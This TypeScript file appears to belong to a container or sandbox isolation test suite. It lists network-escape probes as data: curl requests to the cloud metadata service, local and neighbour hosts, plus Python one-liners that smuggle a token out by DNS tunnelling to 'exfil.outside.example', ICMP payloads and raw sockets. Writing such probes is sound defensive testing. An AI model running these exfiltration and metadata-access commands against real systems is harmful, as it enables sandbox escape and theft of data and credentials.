import type { Attack } from "../attack.ts";
import type { WeakeningName } from "../weakenings.ts";

const group = "network reachability" as const;
const bridge = "the engine's bridge";
const rawBridge = "the engine's bridge, with raw sockets";
const ownServer = "the engine's bridge and a name server";

/** Sends what nobody acknowledges some times over: a bridge loses what comes before it is up. */
const sending = (kind: string, what: string, where: string): string =>
  `awaitNetwork; python3 -c 'import os, socket, time; s = socket.socket(socket.AF_INET, socket.${kind}); [(s.sendto(${what}, ${where}), time.sleep(0.3)) for _ in range(3)]'`;
const datagram = (address: string, port: number): string =>
  sending("SOCK_DGRAM", 'os.environ["SIGN"].encode().rjust(60)', `(os.environ["${address}"], ${port})`);
const question = `b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l for l in (os.environ["SIGN"] + ".exfil.outside.example").encode().split(b".")) + b"\\0\\0\\1\\0\\1"`;
const web = (address: string): string => `curl -s -m 8 --noproxy '*' "http://$${address}/mark-$SIGN"`;

/** Past the filter. Tried in every mode that hides the network. */
export const direct: readonly (readonly [string, string, WeakeningName])[] = [
  ["ask a machine of the local network", web("INSIDER"), bridge],
  ["ask the cloud's metadata service", web("METADATA"), bridge],
  ["ask a machine behind the provider's address translation", web("CGNAT"), bridge],
  ["ask a public address past the filter", web("OUTSIDE"), bridge],
  ["send a datagram to a public address (QUIC)", datagram("OUTSIDE", 443), bridge],
  ["send a datagram to the local network", datagram("INSIDER", 9), bridge],
  [
    "smuggle a name to a name server of one's own",
    sending("SOCK_DGRAM", question, '(os.environ["OUTSIDE"], 53)'),
    bridge,
  ],
  [
    "smuggle a name to it over TCP",
    `python3 -c 'import os, socket; q = ${question}; socket.create_connection((os.environ["OUTSIDE"], 53), 8).sendall(len(q).to_bytes(2, "big") + q)'`,
    bridge,
  ],
  ["smuggle a name out by looking it up", "getent hosts $SIGN.exfil.outside.example", ownServer],
  [
    "ping a public address, with data",
    sending(
      "SOCK_DGRAM, socket.IPPROTO_ICMP",
      'b"\\x08\\0\\0\\0\\0\\1\\0\\1" + os.environ["SIGN"].encode().rjust(60)',
      '(os.environ["OUTSIDE"], 0)',
    ),
    bridge,
  ],
  [
    "send a packet made by hand (raw socket)",
    sending("SOCK_RAW, 253", 'os.environ["SIGN"].encode().rjust(60)', '(os.environ["OUTSIDE"], 0)'),
    rawBridge,
  ],
];

const modes = ["public", "strict", "none"] as const;
/** The same in each of these modes. */
export const past: Omit<Attack, "id">[] = modes.flatMap((network) =>
  direct.map(([words, inside, weakening]) => ({
    group,
    network,
    words: `${network}: ${words}`,
    inside,
    weakening,
  })),
);

const abstract =
  'python3 -c \'import os, socket; socket.socket(socket.AF_UNIX).connect("\\0" + os.environ["ABSTRACT"])\'';
const everyAddress = 'for one in $HOST_ADDRESSES; do ask "$one" "$PORT" && exit 0; done; exit 1';
/** Of this host and beside it; their own listeners are the observers. */
export const hosts: Omit<Attack, "id">[] = modes.flatMap((network) =>
  (
    [
      ["connect to a service of the host's on each of its addresses", everyAddress, bridge],
      [
        "connect to a neighbour container",
        `curl -s -m 8 --noproxy '*' "http://$NEIGHBOUR:8000/" | grep secret`,
        bridge,
      ],
      ["connect to an abstract socket of the host's", abstract, "the host's network"],
    ] as const
  ).map(([words, inside, weakening]) => ({
    ...{ group, network, words: `${network}: ${words}`, inside, weakening },
  })),
);
